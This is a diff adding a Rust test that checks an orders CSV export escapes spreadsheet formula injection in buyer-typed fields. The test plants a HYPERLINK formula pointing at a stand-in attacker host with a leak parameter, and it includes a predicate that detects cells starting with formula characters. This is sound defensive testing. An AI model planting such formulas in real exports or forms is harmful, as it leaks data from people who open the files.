@@ -736,3 +736,54 @@ async fn an_export_longer_than_a_batch_has_every_row_once_in_order() {
         );
     }
 }
+
+/// Text a buyer typed opens in a spreadsheet as text: an order placed under the name
+/// `=HYPERLINK(…)` (and a note starting `+`, `-` or `@`) comes out of the cooperative's orders
+/// export with an apostrophe in front, while amounts stay numbers.
+#[tokio::test]
+async fn a_formula_typed_at_checkout_comes_out_of_an_export_as_text() {
+    use crate::{
+        cooperatives::setup,
+        orders::{add, address, place},
+        products::published_product,
+    };
+    let (app, admin) = setup().await;
+    let (coop, argan) = published_product(&app, &admin).await;
+    let guest = browser();
+    add(&app, &guest, &argan, "1").await;
+    let name = r#"=HYPERLINK("http://evil.example/?leak=","Salma")"#;
+    let placed = place(
+        &app,
+        &guest,
+        &address(
+            &uuid::Uuid::new_v4().to_string(),
+            &[("name", name), ("city", "@Salé"), ("notes", "-1+1")],
+        ),
+    )
+    .await;
+    assert!(
+        location(&placed).starts_with("/orders/"),
+        "{}",
+        location(&placed)
+    );
+    let (status, _, body) = download(
+        &app,
+        &app.client,
+        &format!("/exports/orders.csv?cooperative={}", coop.id),
+        "fr",
+    )
+    .await;
+    assert_eq!(status, 200);
+    let mut reader = csv::ReaderBuilder::new().from_reader(&body[3..]);
+    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("a row")).collect();
+    assert_eq!(rows.len(), 1);
+    let cells: Vec<&str> = rows[0].iter().collect();
+    assert!(cells.contains(&format!("'{name}").as_str()), "{cells:?}");
+    assert!(cells.contains(&"'@Salé"), "{cells:?}");
+    let runs = |cell: &str| {
+        cell.starts_with(['=', '+', '@']) || (cell.starts_with('-') && cell.parse::<f64>().is_err())
+    };
+    for cell in &cells {
+        assert!(!runs(cell), "a cell a spreadsheet would run: {cell:?}");
+    }
+}
